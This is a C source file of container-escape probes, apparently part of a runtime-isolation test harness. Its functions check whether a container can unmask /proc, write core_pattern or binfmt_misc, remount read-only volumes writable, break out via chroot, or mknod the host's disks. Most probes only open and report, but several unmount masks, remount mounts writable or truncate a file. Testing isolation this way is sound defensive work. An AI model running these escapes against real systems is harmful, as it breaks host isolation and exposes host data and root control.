/* /proc and what hides in it, mounts, volumes, devices. */
#include <fcntl.h>
#include <linux/magic.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "attack.h"

/*
 * CVE-2019-19921: a /proc that was mounted through a link of the image's. The link is ours, so we put in its place what
 * we like, and whoever looks into /proc from now on, also a runtime that enters later, reads what we wrote.
 */
const char* attack_replace(const char* directory) {
  char away[64], forged[64];
  snprintf(away, sizeof away, "%s-away", directory);
  snprintf(forged, sizeof forged, "%s/forged", directory);
  if (rename(directory, away) == -1 || mkdir(directory, 0755) == -1) return "kept";
  const int fd = open(forged, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
  if (fd >= 0) close(fd);
  return fd >= 0 ? "forged" : "kept";
}

/* A volume in the place of /proc: what the runtime reads and writes there is ours. */
const char* attack_fake_proc(const char* unused) {
  (void)unused;
  struct statfs status;
  if (statfs("/proc", &status) == -1) return "unclear";
  return status.f_type == PROC_SUPER_MAGIC ? "genuine" : "forged";
}

static const char* const kMasked[] = {"kcore", "keys", "timer_list", "sched_debug", "interrupts", "latency_stats"};
enum { kOld = 4, kAll = sizeof kMasked / sizeof *kMasked };

static int reads_masked(const char* proc, size_t count) {
  char path[256];
  for (size_t i = 0; i < count; ++i) {
    snprintf(path, sizeof path, "%s/%s", proc, kMasked[i]);
    if (can_read(path)) return 1;
  }
  return 0;
}

/* "old": only those that every runtime has masked for ten years. */
const char* attack_masked(const char* which) {
  ensure_proc();
  return reads_masked("/proc", strcmp(which, "old") == 0 ? kOld : kAll) ? "read" : "masked";
}

/* A mask is a mount: it can be taken off, or a second /proc can be mounted that has none. */
const char* attack_unmask(const char* unused) {
  (void)unused;
  char path[256];
  ensure_proc();
  for (size_t i = 0; i < sizeof kMasked / sizeof *kMasked; ++i) {
    snprintf(path, sizeof path, "/proc/%s", kMasked[i]);
    umount2(path, MNT_DETACH);
  }
  if (reads_masked("/proc", kOld)) return "read";
  const char* anew = mount_anew("proc", NULL);
  return anew != NULL && reads_masked(anew, kOld) ? "read" : "masked";
}

static int writes_settings(const char* proc) {
  static const char* const kSettings[] = {"sys/kernel/core_pattern", "sysrq-trigger", "sys/kernel/modprobe",
                                          "sys/vm/panic_on_oom", "sys/kernel/hostname"};
  char path[256];
  for (size_t i = 0; i < sizeof kSettings / sizeof *kSettings; ++i) {
    snprintf(path, sizeof path, "%s/%s", proc, kSettings[i]);
    if (can_write(path)) return 1;  /* opened, never written */
  }
  return 0;
}

/* CVE-2022-0811: who sets core_pattern names a program that the kernel starts on the host, as root. */
const char* attack_settings(const char* unused) {
  (void)unused;
  ensure_proc();
  return writes_settings("/proc") ? "writable" : "refused";
}

const char* attack_settings_anew(const char* unused) {
  (void)unused;
  const char* anew = mount_anew("proc", NULL);
  if (anew != NULL && writes_settings(anew)) return "writable";
  mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);  /* a read-only mount, made writable again */
  mount(NULL, "/proc/sysrq-trigger", NULL, MS_REMOUNT | MS_BIND, NULL);
  return access("/proc/self/stat", F_OK) == 0 && writes_settings("/proc") ? "writable" : "refused";
}

/* Who registers a format names the interpreter of other people's programs. */
const char* attack_binfmt(const char* unused) {
  (void)unused;
  char path[64];
  const char* anew = mount_anew("binfmt_misc", NULL);
  if (anew == NULL) return "refused";
  snprintf(path, sizeof path, "%s/register", anew);
  return can_write(path) ? "writable" : "refused";
}

/* A volume that was given read-only. */
const char* attack_volume(const char* unused) {
  (void)unused;
  if (access("/mnt/content", F_OK) == -1) return "unclear";
  mount(NULL, "/mnt", NULL, MS_REMOUNT | MS_BIND, NULL);
  const int fd = open("/mnt/content", O_WRONLY | O_TRUNC | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0 ? "written" : "refused";
}

/* Whether the image's own directory was mounted in the place of one of the host's. */
const char* attack_decoy(const char* unused) {
  (void)unused;
  return access("/mnt/decoy", F_OK) == 0 ? "mounted" : "empty";
}

/* Mounts and leaves it there: the harness looks whether the mount shows up on its side, and takes it away. */
const char* attack_mount(const char* unused) {
  (void)unused;
  static const char* const kPlaces[] = {"/srv", "/mnt", "/tmp"};
  for (size_t i = 0; i < sizeof kPlaces / sizeof *kPlaces; ++i)
    if (mount("attack", kPlaces[i], "tmpfs", 0, "size=64k") == 0) return "mounted";
  return "refused";
}

/* The oldest one: a second chroot into a subdirectory leaves us outside of the new root, and nothing stops "..". */
static int climbs_out(void) {
  static const char* const kBelow[] = {"/tmp", "/dev", "/proc", "/bin"};
  int below = 0;
  while (below < 4 && chroot(kBelow[below]) == -1) ++below;
  if (below == 4) return 0;
  for (int i = 0; i < 64; ++i)
    if (chdir("..") == -1) return 0;
  return chroot(".") == 0;
}

/* For a root that was moved over the host's: lift it off, then ask for the root of our mount namespace. */
static int uncovers(void) {
  const int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
  return own >= 0 && umount2("/", MNT_DETACH) == 0 && setns(own, CLONE_NEWNS) == 0;
}

const char* attack_climb(const char* path) {
  if (chdir("/") == -1) return "held";
  if (climbs_out() && can_read(path)) return "escaped";
  return uncovers() && can_read(path) ? "escaped" : "held";
}

/* Opened, not read: whether the kernel's log has a line just now is not the question. */
static int opens(const char* path) {
  const int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

/* A device that came with the image: its numbers are the host's kernel log. */
const char* attack_device(const char* unused) {
  (void)unused;
  char path[4096];
  path_in_root(path, sizeof path, "srv/device");
  return opens(path) ? "opened" : "refused";
}

static int makes_and_opens(mode_t kind, dev_t number) {
  static const char* const kPlaces[] = {"tmp/attack-device", "dev/attack-device", "dev/shm/attack-device", "attack-device"};
  for (size_t i = 0; i < sizeof kPlaces / sizeof *kPlaces; ++i) {
    char path[4096];
    path_in_root(path, sizeof path, kPlaces[i]);
    if (mknod(path, kind | 0600, number) == -1) continue;
    const int opened = opens(path);
    unlink(path);
    if (opened) return 1;
  }
  return 0;
}

/* The host's disks, under numbers that /proc/partitions tells to everybody; and its kernel log. */
const char* attack_mknod(const char* unused) {
  (void)unused;
  ensure_proc();
  char line[256];
  int opened = makes_and_opens(S_IFCHR, makedev(1, 11));
  FILE* table = fopen("/proc/partitions", "re");
  while (!opened && table != NULL && fgets(line, sizeof line, table) != NULL) {
    unsigned major, minor;
    if (sscanf(line, " %u %u", &major, &minor) == 2) opened = makes_and_opens(S_IFBLK, makedev(major, minor));
  }
  if (table != NULL) fclose(table);
  return opened ? "opened" : "refused";
}
